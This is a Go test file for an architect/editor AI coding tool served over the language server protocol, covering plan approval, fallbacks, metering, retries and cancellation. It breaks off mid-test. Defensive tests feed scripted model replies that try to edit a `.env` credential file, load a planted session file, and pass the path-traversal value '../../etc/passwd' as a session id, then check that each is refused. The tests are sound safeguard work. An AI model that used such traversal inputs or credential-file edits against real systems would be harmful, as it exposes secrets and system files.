package commands_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aide-lsp/aide-lsp/commands"
	"github.com/aide-lsp/aide-lsp/lsp"
	"github.com/aide-lsp/aide-lsp/model"
	"github.com/aide-lsp/aide-lsp/model/modeltest"
)

// The engine is what lsp drives.
var _ lsp.Engine = (*commands.Engine)(nil)

const greetPlan = "1. In `main.go`, change the greeting printed by main from \"hello\" to \"hello, world\"."

// Seed 001 §6 test 2 (two calls, plan event before any proposal) and test 4
// (the plan is shown, and waits, before any edit is proposed).
func TestTwoCallsPlanBeforeProposal(t *testing.T) {
	e := newEnv(t, envOpts{
		files:       map[string]string{"main.go": mainGo, "other.go": "package main\n\nfunc other() {}\n"},
		archReplies: []modeltest.Reply{{Text: "ARCHITECT-PROSE: I looked around.\n" + plan(greetPlan)}},
	})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet the world"})
	if got := e.state(id); got != commands.StateWaiting {
		t.Fatalf("state after the architect = %q, want %q", got, commands.StateWaiting)
	}
	if n := len(e.arch.Requests()); n != 1 {
		t.Fatalf("model calls before approval = %d, want 1 (the editor waits for approval)", n)
	}
	if len(e.client.shown) != 1 || !strings.Contains(e.client.lastDoc, "## Plan") || strings.Contains(e.client.lastDoc, "## Proposed changes") {
		t.Fatalf("the plan document was not shown with the plan before approval: %d shown, last:\n%s", len(e.client.shown), e.client.lastDoc)
	}
	plan, err := os.ReadFile(filepath.Join(e.root, ".aide", "plans", id+".md"))
	if err != nil || !strings.Contains(string(plan), "hello, world") || !strings.Contains(string(plan), "cycle 1/8") {
		t.Fatalf("plan file: %v\n%s", err, plan)
	}
	if e.client.proposalCount() != 0 {
		t.Fatal("a proposal before the plan was approved")
	}

	e.arch.Script(modeltest.Reply{ToolCalls: []model.ToolCall{editCall("main.go", "fmt.Println(\"hello\")", "fmt.Println(\"hello, world\")")}})
	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	reqs := e.arch.Requests()
	if len(reqs) != 2 {
		t.Fatalf("model calls = %d, want 2", len(reqs))
	}
	if hasTools(reqs[0]) {
		t.Error("the architect request carried tools")
	}
	if !hasTools(reqs[1]) {
		t.Error("the editor request carried no tools")
	}
	sys := systemOf(reqs[1])
	if !strings.HasPrefix(sys, "You are the editor. Translate this plan into tool calls. Do not re-reason.") || !strings.Contains(sys, greetPlan) {
		t.Errorf("editor system prompt lacks the prefix or the plan:\n%s", sys)
	}
	edUser := userText(reqs[1])
	if strings.Contains(edUser+sys, "ARCHITECT-PROSE") || strings.Contains(edUser, "other.go") {
		t.Errorf("the editor saw the architect's history or files the plan does not name:\n%s", edUser)
	}
	if !strings.Contains(edUser, "fmt.Println(\"hello\")") {
		t.Errorf("the editor did not get main.go's content:\n%s", edUser)
	}
	names := e.client.names()
	ip, iprop := indexOf(names, "plan"), indexOf(names, "proposal")
	if ip < 0 || iprop < 0 || ip > iprop || indexOf(names, "architect_pass") > ip || indexOf(names, "editor_pass") > iprop {
		t.Fatalf("event order %v: want architect_pass, plan, editor_pass, proposal", names)
	}
	if len(e.client.eventsNamed("plan")) != 1 {
		t.Errorf("plan events = %d, want 1", len(e.client.eventsNamed("plan")))
	}
	if e.state(id) != commands.StateProposed || e.client.proposalCount() != 1 {
		t.Fatalf("state %q, proposals %d", e.state(id), e.client.proposalCount())
	}
	p := e.client.proposals[0]
	if len(p.Hunks) != 1 || p.Hunks[0].Path != "main.go" || p.Hunks[0].ID != "h1" {
		t.Fatalf("proposal = %+v", p)
	}
	// Pass events carry the metering fields; the session file has every event.
	ap := eventFields(t, e.client.eventsNamed("architect_pass")[0])
	for _, k := range []string{"model", "promptTokens", "completionTokens", "ms"} {
		if _, ok := ap[k]; !ok {
			t.Errorf("architect_pass lacks %s: %v", k, ap)
		}
	}
	lines := readLines(t, filepath.Join(e.root, ".aide", "sessions", id+".jsonl"))
	if len(lines) != len(names) {
		t.Fatalf("session file has %d events, client got %d", len(lines), len(names))
	}
	// Accepting every hunk finishes the session; disk is untouched by the engine.
	res, err := e.exec(commands.CmdAccept, map[string]any{"session": id})
	if err != nil || !strings.Contains(mustJSON(res), `"accepted":["h1"]`) {
		t.Fatalf("accept: %v %s", err, mustJSON(res))
	}
	if e.state(id) != commands.StateDone || len(e.client.eventsNamed("done")) != 1 {
		t.Fatalf("state %q after accepting everything", e.state(id))
	}
}

func readLines(t *testing.T, path string) []map[string]any {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("bad session line %q: %v", l, err)
		}
		out = append(out, m)
	}
	return out
}

func mustJSON(v any) string { b, _ := json.Marshal(v); return string(b) }

// Seed 001 §6 test 3: the architect writes edits itself → one call, not two.
func TestCollapseWhenTheArchitectEdits(t *testing.T) {
	answers := map[string]string{
		"search/replace": "I will just do it.\n\nmain.go\n<<<<<<< SEARCH\n\tfmt.Println(\"hello\")\n=======\n\tfmt.Println(\"hi\")\n>>>>>>> REPLACE\n",
		"tool-call json": "```json\n{\"name\": \"edit_file\", \"arguments\": {\"path\": \"main.go\", \"old_text\": \"fmt.Println(\\\"hello\\\")\", \"new_text\": \"fmt.Println(\\\"hi\\\")\"}}\n```\n",
	}
	for name, answer := range answers {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": false}`,
				archReplies: []modeltest.Reply{{Text: answer}}})
			id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "say hi"})
			if n := len(e.arch.Requests()); n != 1 {
				t.Fatalf("model calls = %d, want exactly 1", n)
			}
			if e.client.proposalCount() != 1 || len(e.client.proposals[0].Hunks) != 1 {
				t.Fatalf("proposals = %+v", e.client.proposals)
			}
			fb := e.client.eventsNamed("fallback")
			if len(fb) != 1 || fb[0].Data.(commands.FallbackData).Kind != "collapse" {
				t.Fatalf("fallback events = %+v", fb)
			}
			if e.state(id) != commands.StateProposed {
				t.Fatalf("state = %q", e.state(id))
			}
		})
	}
}

// Seed 001 §6 test 5 and the "plan-parse fails" row: an empty or unparseable
// plan falls through to one editor call with the tools and no plan.
func TestNoUsablePlanFallsThroughToOneCall(t *testing.T) {
	for name, answer := range map[string]string{
		"empty plan":  "## Plan\n\n## End Plan\n",
		"unparseable": "## Plan\nno closing block",
		"no plan":     "I think the greeting should change.",
	} {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": true}`,
				archReplies: []modeltest.Reply{{Text: answer},
					{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello\"", "\"hi\"")}}}})
			id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "say hi"})
			reqs := e.arch.Requests()
			if len(reqs) != 2 {
				t.Fatalf("model calls = %d, want 2 (architect, then one editor call)", len(reqs))
			}
			if hasTools(reqs[0]) || !hasTools(reqs[1]) {
				t.Fatal("want the architect without tools and the one call with tools")
			}
			if strings.Contains(systemOf(reqs[1]), "## Plan") || !strings.Contains(userText(reqs[1]), "say hi") {
				t.Errorf("the one call must carry the task and no plan:\n%s\n%s", systemOf(reqs[1]), userText(reqs[1]))
			}
			if len(e.client.eventsNamed("plan")) != 0 {
				t.Error("a plan event without a plan")
			}
			fb := e.client.eventsNamed("fallback")
			if len(fb) != 1 || fb[0].Data.(commands.FallbackData).Kind != "one_call" {
				t.Fatalf("fallback events = %+v", fb)
			}
			if e.state(id) != commands.StateProposed || e.client.proposalCount() != 1 {
				t.Fatalf("state %q, proposals %d", e.state(id), e.client.proposalCount())
			}
		})
	}
}

// Seed 001 §6 test 6 and the "cost spike" row: with maxCycles 2, five turns,
// the last three are one call.
func TestCycleCapMakesLaterTurnsOneCall(t *testing.T) {
	edit := modeltest.Reply{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello\"", "\"hi\"")}}
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": false, "maxCycles": 2}`,
		archReplies: []modeltest.Reply{
			{Text: plan(greetPlan)}, edit, // turn 1
			{Text: plan(greetPlan)}, edit, // turn 2
			edit, edit, edit, // turns 3-5
		}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "say hi"})
	for i := 0; i < 4; i++ {
		if _, err := e.exec(commands.CmdReplan, map[string]any{"session": id, "feedback": "again"}); err != nil {
			t.Fatalf("replan %d: %v", i+1, err)
		}
	}
	reqs := e.arch.Requests()
	if len(reqs) != 7 {
		t.Fatalf("model calls = %d, want 7 (2+2+1+1+1)", len(reqs))
	}
	wantTools := []bool{false, true, false, true, true, true, true}
	for i, r := range reqs {
		if hasTools(r) != wantTools[i] {
			t.Errorf("call %d: tools=%v, want %v", i+1, hasTools(r), wantTools[i])
		}
	}
	for _, r := range reqs[4:] {
		if strings.Contains(systemOf(r), "You are the editor. Translate this plan") {
			t.Error("a turn past the cap still ran as architect → editor")
		}
	}
	caps := 0
	for _, f := range e.client.eventsNamed("fallback") {
		if f.Data.(commands.FallbackData).Kind == "cycle_cap" {
			caps++
		}
	}
	if caps != 3 {
		t.Fatalf("cycle_cap fallbacks = %d, want 3", caps)
	}
	if n := len(e.client.eventsNamed("architect_pass")); n != 2 {
		t.Fatalf("architect passes = %d, want 2", n)
	}
	// Four re-plans superseded four proposals.
	if n := len(e.client.eventsNamed("stale")); n != 4 {
		t.Errorf("stale events = %d, want 4", n)
	}
}

// Threat row "plan too vague": the editor, given "do the right thing",
// fabricates nothing; nothing is proposed.
func TestVaguePlanEditorFabricatesNothing(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo, "util.go": "package main\n"}, config: `{"reviewPlan": false}`,
		archReplies: []modeltest.Reply{{Text: plan("Do the right thing.")}, {Text: "The plan does not say what to change, so I made no edit."}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "improve things"})
	reqs := e.arch.Requests()
	if len(reqs) != 2 {
		t.Fatalf("model calls = %d, want 2 (no retries for nothing)", len(reqs))
	}
	if strings.Contains(userText(reqs[1]), "util.go") || strings.Contains(userText(reqs[1]), "Repository map") {
		t.Errorf("the editor got more than the plan and the focus file:\n%s", userText(reqs[1]))
	}
	if e.client.proposalCount() != 0 || len(e.client.eventsNamed("proposal")) != 0 {
		t.Fatal("something was proposed from a plan that says nothing")
	}
	if e.state(id) != commands.StateDone {
		t.Fatalf("state = %q, want done", e.state(id))
	}
	if d := e.client.eventsNamed("done"); len(d) != 1 || d[0].Data.(commands.DoneData).Proposed == nil || *d[0].Data.(commands.DoneData).Proposed != 0 {
		t.Fatalf("done events = %+v", d)
	}
}

// Threat row "plan is wrong": a plan naming a nonexistent file → failed
// edits → the mistake limit → a clean stop with the reason.
func TestNonexistentFileHitsTheMistakeLimit(t *testing.T) {
	bad := modeltest.Reply{ToolCalls: []model.ToolCall{editCall("server/handler.go", "func Handle()", "func Handle(ctx context.Context)")}}
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": false, "maxMistakes": 3, "editorFailureThreshold": 5}`,
		archReplies: []modeltest.Reply{{Text: plan("1. In `server/handler.go`, add a context parameter to Handle.")}, bad, bad, bad}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "thread a context"})
	reqs := e.arch.Requests()
	if len(reqs) != 4 {
		t.Fatalf("model calls = %d, want 4 (architect + 3 failed editor passes)", len(reqs))
	}
	if !strings.Contains(userText(reqs[1]), "server/handler.go: this file does not exist") {
		t.Errorf("the editor was not told the file does not exist:\n%s", userText(reqs[1]))
	}
	if !strings.Contains(userText(reqs[2]), "FAILED") {
		t.Errorf("the retry does not say what failed:\n%s", userText(reqs[2]))
	}
	if e.state(id) != commands.StateFailed || e.client.proposalCount() != 0 {
		t.Fatalf("state %q, proposals %d; want failed and none", e.state(id), e.client.proposalCount())
	}
	errs := e.client.eventsNamed("error")
	if len(errs) == 0 || !strings.Contains(errs[len(errs)-1].Data.(commands.ErrorData).Message, "maxMistakes") {
		t.Fatalf("no clean stop with a reason: %+v", errs)
	}
	doc, _ := os.ReadFile(filepath.Join(e.root, ".aide", "plans", id+".md"))
	if !strings.Contains(string(doc), "failed") || !strings.Contains(string(doc), "maxMistakes") {
		t.Errorf("the plan document does not show the stop:\n%s", doc)
	}
}

// Threat row "plan contains forbidden content": a plan that targets a
// credential file; the editor's edit of it is refused with an error event.
func TestDeniedCredentialFileIsRefused(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo, ".env": "TOKEN=old\n"}, config: `{"reviewPlan": false}`,
		archReplies: []modeltest.Reply{
			{Text: plan("1. Put the new API token into `.env` as TOKEN=sk-new.")},
			{ToolCalls: []model.ToolCall{writeCall(".env", "TOKEN=sk-new\n")}},
			{Text: "I will not edit credential files."},
		}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "rotate the token"})
	reqs := e.arch.Requests()
	for _, r := range reqs {
		if strings.Contains(string(r.Raw), "TOKEN=old") {
			t.Fatal("the content of .env went into a prompt")
		}
	}
	errs := e.client.eventsNamed("error")
	if len(errs) == 0 || !strings.Contains(errs[0].Data.(commands.ErrorData).Message, ".env") {
		t.Fatalf("no error event for the refused edit: %+v", errs)
	}
	if e.client.proposalCount() != 0 {
		t.Fatal("an edit of .env was proposed")
	}
	if len(reqs) != 3 || !strings.Contains(userText(reqs[2]), "FAILED") {
		t.Fatalf("the refusal must count as a failed edit and be re-prompted (calls %d)", len(reqs))
	}
	if data, _ := os.ReadFile(filepath.Join(e.root, ".env")); string(data) != "TOKEN=old\n" {
		t.Fatal(".env changed")
	}
	_ = id
}

// Threat row "architect and editor are different models": both calls are
// recorded separately, in the events and in the cost table.
func TestDifferentModelsAreMeteredSeparately(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, separateEd: true,
		config:      `{"reviewPlan": false, "prices": {"arch/big": {"input": 10, "output": 30}, "ed/small": {"input": 1, "output": 2}}}`,
		archReplies: []modeltest.Reply{{Text: plan(greetPlan), Usage: &model.Usage{PromptTokens: 2400, CompletionTokens: 410}}},
		edReplies:   []modeltest.Reply{{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello\"", "\"hello, world\"")}, Usage: &model.Usage{PromptTokens: 2820, CompletionTokens: 180}}},
	})
	e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet the world"})
	if len(e.arch.Requests()) != 1 || len(e.ed.Requests()) != 1 {
		t.Fatalf("architect calls %d, editor calls %d; want 1 and 1", len(e.arch.Requests()), len(e.ed.Requests()))
	}
	if modelOf(e.arch.Requests()[0]) != "big" || modelOf(e.ed.Requests()[0]) != "small" {
		t.Fatalf("models on the wire: %q, %q", modelOf(e.arch.Requests()[0]), modelOf(e.ed.Requests()[0]))
	}
	res, err := e.exec(commands.CmdCost, map[string]any{})
	if err != nil {
		t.Fatal(err)
	}
	cost := res.(commands.CostResult)
	if len(cost.Rows) != 2 {
		t.Fatalf("cost rows = %+v, want two", cost.Rows)
	}
	byModel := map[string]model.CostRow{}
	for _, r := range cost.Rows {
		byModel[r.Model] = r
	}
	a, ed := byModel["arch/big"], byModel["ed/small"]
	if a.Role != model.RoleArchitect || a.Requests != 1 || a.PromptTokens != 2400 || a.CompletionTokens != 410 {
		t.Errorf("architect row = %+v", a)
	}
	if ed.Role != model.RoleEditor || ed.Requests != 1 || ed.PromptTokens != 2820 || ed.CompletionTokens != 180 {
		t.Errorf("editor row = %+v", ed)
	}
	if cost.Total <= 0 {
		t.Errorf("total = %v", cost.Total)
	}
	if ap, ep := e.client.eventsNamed("architect_pass"), e.client.eventsNamed("editor_pass"); len(ap) != 1 || len(ep) != 1 ||
		ap[0].Data.(commands.PassData).Model != "arch/big" || ep[0].Data.(commands.EditorPassData).Model != "ed/small" {
		t.Fatalf("pass events: %+v %+v", ap, ep)
	}
}

// Design rule 5: after editorFailureThreshold editor passes whose edits all
// failed, the architect's model edits — visible in which fake gets the call.
func TestEditorFailureThresholdSwitchesTheEditorModel(t *testing.T) {
	miss := modeltest.Reply{ToolCalls: []model.ToolCall{editCall("main.go", "fmt.Printl(\"helo\")\nreturn", "x")}}
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, separateEd: true,
		config: `{"reviewPlan": false, "editorFailureThreshold": 2, "maxMistakes": 5}`,
		archReplies: []modeltest.Reply{{Text: plan(greetPlan)},
			{ToolCalls: []model.ToolCall{editCall("main.go", "fmt.Println(\"hello\")", "fmt.Println(\"hello, world\")")}}},
		edReplies: []modeltest.Reply{miss, miss},
	})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet the world"})
	ar, er := e.arch.Requests(), e.ed.Requests()
	if len(er) != 2 || len(ar) != 2 {
		t.Fatalf("editor-model calls %d, architect-model calls %d; want 2 and 2", len(er), len(ar))
	}
	if !hasTools(ar[1]) || !strings.HasPrefix(systemOf(ar[1]), "You are the editor.") {
		t.Fatal("the third editor pass did not go to the architect's model as the editor")
	}
	if !strings.Contains(userText(er[1]), "closest lines") && !strings.Contains(userText(er[1]), "FAILED") {
		t.Errorf("the retry lacks the reason and the closest lines:\n%s", userText(er[1]))
	}
	sw := 0
	for _, f := range e.client.eventsNamed("fallback") {
		if f.Data.(commands.FallbackData).Kind == "editor_switch" {
			sw++
		}
	}
	if sw != 1 || e.state(id) != commands.StateProposed {
		t.Fatalf("editor_switch fallbacks %d, state %q", sw, e.state(id))
	}
}

// Design rule 5: what matched is kept; only the failed edit is asked again.
func TestRetryOnlyTheFailedEdits(t *testing.T) {
	src := "package main\n\nfunc a() int { return 1 }\n\nfunc b() int { return 2 }\n"
	e := newEnv(t, envOpts{files: map[string]string{"m.go": src}, config: `{"reviewPlan": false}`,
		archReplies: []modeltest.Reply{
			{Text: plan("1. In `m.go`, make a return 10 and b return 20.")},
			{ToolCalls: []model.ToolCall{editCall("m.go", "return 1 }", "return 10 }"), editCall("m.go", "return 3 }", "return 20 }")}},
			{ToolCalls: []model.ToolCall{editCall("m.go", "return 2 }", "return 20 }")}},
		}})
	e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("m.go"), "task": "bigger numbers"})
	reqs := e.arch.Requests()
	if len(reqs) != 3 {
		t.Fatalf("calls = %d, want 3", len(reqs))
	}
	retry := userText(reqs[2])
	if !strings.Contains(retry, "return 3 }") || strings.Contains(retry, "old_text was:\n    return 1 }") {
		t.Errorf("the retry must ask only for the failed edit:\n%s", retry)
	}
	if e.client.proposalCount() != 1 || len(e.client.proposals[0].Hunks) != 2 {
		t.Fatalf("proposals = %+v", e.client.proposals)
	}
	ids := []string{e.client.proposals[0].Hunks[0].ID, e.client.proposals[0].Hunks[1].ID}
	if ids[0] == ids[1] {
		t.Fatalf("duplicate hunk ids %v", ids)
	}
}

// Threat row "checkpoint restore": a session reloaded from .aide/sessions
// re-derives its plan, which waits for approval; the stale plan is never
// replayed to the editor.
func TestReloadedSessionRederivesItsPlan(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
		archReplies: []modeltest.Reply{{Text: plan("1. STALE-PLAN: in `main.go`, print goodbye.")}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet the world"})
	if e.state(id) != commands.StateWaiting {
		t.Fatalf("state = %q", e.state(id))
	}
	// A second session was running when the server died.
	writeFile(t, e.root, ".aide/sessions/20260101-000000-abcdef.json",
		`{"session":"20260101-000000-abcdef","kind":"architect","task":"old","state":"editing","createdAt":"2026-01-01T00:00:00Z","architectModel":"arch/big","editorModel":"arch/big"}`)

	// The server restarts.
	e.eng = e.newEngine()
	states := map[string]commands.State{}
	for _, s := range e.eng.Sessions() {
		states[s.Session] = s.State
	}
	if states[id] != commands.StateWaiting || states["20260101-000000-abcdef"] != commands.StateInterrupted {
		t.Fatalf("reloaded states = %v", states)
	}
	e.arch.Script(modeltest.Reply{Text: plan("1. FRESH-PLAN: " + greetPlan)},
		modeltest.Reply{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello\"", "\"hello, world\"")}})
	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	// The plan derived again is shown and waits for approval: a session
	// file can be planted, its task is never run straight through.
	if reqs := e.arch.Requests(); len(reqs) != 2 || hasTools(reqs[1]) || e.state(id) != commands.StateWaiting {
		t.Fatalf("calls = %d, state %q; want the architect asked again (no tools) and the plan waiting", len(reqs), e.state(id))
	}
	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	reqs := e.arch.Requests()
	if len(reqs) != 3 {
		t.Fatalf("calls = %d; want the editor after the second approval", len(reqs))
	}
	sys := systemOf(reqs[2])
	if strings.Contains(sys, "STALE-PLAN") || !strings.Contains(sys, "FRESH-PLAN") {
		t.Fatalf("the editor got the stale plan:\n%s", sys)
	}
	if e.state(id) != commands.StateProposed {
		t.Fatalf("state = %q", e.state(id))
	}
}

// Contract §4: approvePlan carries out the plan as it stands in the plan file.
func TestEditedPlanIsCarriedOut(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
		archReplies: []modeltest.Reply{{Text: plan(greetPlan)},
			{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello\"", "\"bonjour\"")}}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet"})
	path := filepath.Join(e.root, ".aide", "plans", id+".md")
	doc, _ := os.ReadFile(path)
	edited := strings.Replace(string(doc), "\"hello, world\"", "\"bonjour\" (USER-EDIT)", 1)
	if edited == string(doc) {
		t.Fatal("plan text not found in the document")
	}
	writeFile(t, e.root, ".aide/plans/"+id+".md", edited)
	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	if sys := systemOf(e.arch.Requests()[1]); !strings.Contains(sys, "USER-EDIT") {
		t.Fatalf("the editor did not get the edited plan:\n%s", sys)
	}
}

// Drift between the plan and the editor call: a drift event, the editor gets
// current content with a note; onDrift "stop" stops.
func TestDriftBetweenPlanAndEditor(t *testing.T) {
	for _, onDrift := range []string{"continue", "stop"} {
		t.Run(onDrift, func(t *testing.T) {
			e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"onDrift": "` + onDrift + `"}`,
				archReplies: []modeltest.Reply{{Text: plan(greetPlan)},
					{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello there\"", "\"hello, world\"")}}}})
			id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet"})
			writeFile(t, e.root, "main.go", strings.Replace(mainGo, "\"hello\"", "\"hello there\"", 1))
			_, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id})
			if len(e.client.eventsNamed("drift")) != 1 {
				t.Fatalf("drift events = %d", len(e.client.eventsNamed("drift")))
			}
			doc, _ := os.ReadFile(filepath.Join(e.root, ".aide", "plans", id+".md"))
			if !strings.Contains(string(doc), "## Drift") {
				t.Errorf("no ## Drift section:\n%s", doc)
			}
			if onDrift == "stop" {
				if err == nil || e.state(id) != commands.StateFailed || len(e.arch.Requests()) != 1 {
					t.Fatalf("onDrift stop: err %v, state %q, calls %d", err, e.state(id), len(e.arch.Requests()))
				}
				return
			}
			ed := userText(e.arch.Requests()[1])
			if !strings.Contains(ed, "hello there") || !strings.Contains(ed, "changed since the plan") {
				t.Fatalf("the editor did not get current content and a drift note:\n%s", ed)
			}
			if e.state(id) != commands.StateProposed {
				t.Fatalf("state %q", e.state(id))
			}
		})
	}
}

// Cancelling during the architect call: the call stops, nothing is
// proposed, the session is cancelled.
func TestCancelDuringTheArchitectCall(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": false}`,
		archReplies: []modeltest.Reply{{Text: plan(greetPlan), Stall: 10 * time.Minute}}})
	raw, _ := json.Marshal(map[string]any{"uri": e.uri("main.go"), "task": "greet"})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute) // hang guard only
	defer cancel()
	res, work, err := e.eng.Execute(ctx, commands.CmdArchitect, raw)
	if err != nil {
		t.Fatal(err)
	}
	id := sessionOf(t, res)
	done := make(chan error, 1)
	go func() { done <- work(ctx, nil) }()
	for len(e.arch.Requests()) == 0 {
		select {
		case <-ctx.Done():
			t.Fatal("the model was never called")
		case <-time.After(10 * time.Millisecond): // polling interval, not an assertion
		}
	}
	if _, err := e.exec(commands.CmdCancel, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	select {
	case <-done:
	case <-ctx.Done():
		t.Fatal("the work did not stop after aide.cancel")
	}
	if e.state(id) != commands.StateCancelled || e.client.proposalCount() != 0 || len(e.client.eventsNamed("cancelled")) != 1 {
		t.Fatalf("state %q, proposals %d, cancelled events %d", e.state(id), e.client.proposalCount(), len(e.client.eventsNamed("cancelled")))
	}
}

// Task resolution: the task argument, else the AI comment, else a clear error.
func TestTaskFromAIComment(t *testing.T) {
	src := "package main\n\n// AI: add a retry loop to fetch\n// with three attempts\nfunc fetch() {}\n"
	e := newEnv(t, envOpts{files: map[string]string{"f.go": src, "g.go": "package main\n"},
		archReplies: []modeltest.Reply{{Text: plan("1. In `f.go`, wrap fetch in a retry loop of three attempts.")}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("f.go"), "range": map[string]any{"start": map[string]int{"line": 2, "character": 0}, "end": map[string]int{"line": 2, "character": 0}}})
	var task string
	for _, s := range e.eng.Sessions() {
		if s.Session == id {
			task = s.Task
		}
	}
	if task != "add a retry loop to fetch\nwith three attempts" {
		t.Fatalf("task = %q", task)
	}
	_, err := e.exec(commands.CmdArchitect, map[string]any{"uri": e.uri("g.go")})
	if err == nil || !strings.Contains(err.Error(), "task") || !strings.Contains(err.Error(), "AI:") {
		t.Fatalf("want an error naming both ways to give a task, got %v", err)
	}
	_, err = e.exec(commands.CmdArchitect, map[string]any{"uri": e.uri(".env"), "task": "x"})
	if err == nil {
		t.Fatal("a denied focus file was accepted")
	}
}

// aide.edit is one call with the tools; deciding hunk by hunk finishes the
// session; cancelling a proposed session withdraws what is still pending.
func TestEditDecideAndCancelProposed(t *testing.T) {
	src := "package main\n\nfunc a() int { return 1 }\n\nfunc b() int { return 2 }\n"
	two := modeltest.Reply{ToolCalls: []model.ToolCall{editCall("m.go", "return 1 }", "return 10 }"), editCall("m.go", "return 2 }", "return 20 }")}}
	e := newEnv(t, envOpts{files: map[string]string{"m.go": src}, archReplies: []modeltest.Reply{two, two}})
	id := e.start(commands.CmdEdit, map[string]any{"uri": e.uri("m.go"), "task": "bigger numbers"})
	reqs := e.arch.Requests()
	if len(reqs) != 1 || !hasTools(reqs[0]) || len(e.client.eventsNamed("architect_pass")) != 0 {
		t.Fatalf("aide.edit: %d calls; want one editor call with tools", len(reqs))
	}
	if res, err := e.exec(commands.CmdAccept, map[string]any{"session": id, "hunks": []string{"h1"}}); err != nil || !strings.Contains(mustJSON(res), `["h1"]`) {
		t.Fatalf("accept h1: %v %s", err, mustJSON(res))
	}
	if e.state(id) != commands.StateProposed {
		t.Fatalf("state %q with h2 still pending", e.state(id))
	}
	// Accepting an accepted hunk again answers it again (an editor's code
	// action lands its edit before its command runs); a rejected one is an error.
	if res, err := e.exec(commands.CmdAccept, map[string]any{"session": id, "hunks": []string{"h1"}}); err != nil || !strings.Contains(mustJSON(res), `["h1"]`) {
		t.Fatalf("accepting h1 again: %v %s", err, mustJSON(res))
	}
	if got := e.read("m.go"); !strings.Contains(got, "return 10 }") || !strings.Contains(got, "return 2 }") {
		t.Fatalf("m.go after accepting h1 only:\n%s", got)
	}
	if _, err := e.exec(commands.CmdReject, map[string]any{"session": id, "hunks": []string{"h2"}}); err != nil {
		t.Fatal(err)
	}
	if e.state(id) != commands.StateDone {
		t.Fatalf("state %q after every hunk was decided", e.state(id))
	}
	if _, err := e.exec(commands.CmdAccept, map[string]any{"session": id, "hunks": []string{"h2"}}); err == nil {
		t.Fatal("accepting a rejected hunk was allowed")
	}

	id2 := e.start(commands.CmdEdit, map[string]any{"uri": e.uri("m.go"), "task": "bigger numbers"})
	if _, err := e.exec(commands.CmdCancel, map[string]any{"session": id2}); err != nil {
		t.Fatal(err)
	}
	if e.state(id2) != commands.StateCancelled || len(e.eng.Pending(id2)) != 0 {
		t.Fatalf("state %q, pending %d after cancel", e.state(id2), len(e.eng.Pending(id2)))
	}
	stale := e.client.eventsNamed("stale")
	if len(stale) != 1 || stale[0].Session != id2 {
		t.Fatalf("stale events = %+v", stale)
	}
	if _, err := e.exec(commands.CmdShowPlan, map[string]any{"session": "../../etc/passwd"}); err == nil {
		t.Fatal("a path as session id was accepted")
	}
}

// Design rule 7: a replacement that deletes code through elision is refused
// and the editor is told so.
func TestElisionIsRefusedAndToldToTheEditor(t *testing.T) {
	elided := editCall("main.go", "func main() {\n\tfmt.Println(\"hello\")\n}", "func main() {\n\t// ... existing code ...\n\tfmt.Println(\"bye\")\n}")
	good := editCall("main.go", "fmt.Println(\"hello\")", "fmt.Println(\"hello\")\n\tfmt.Println(\"bye\")")
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}, config: `{"reviewPlan": false}`,
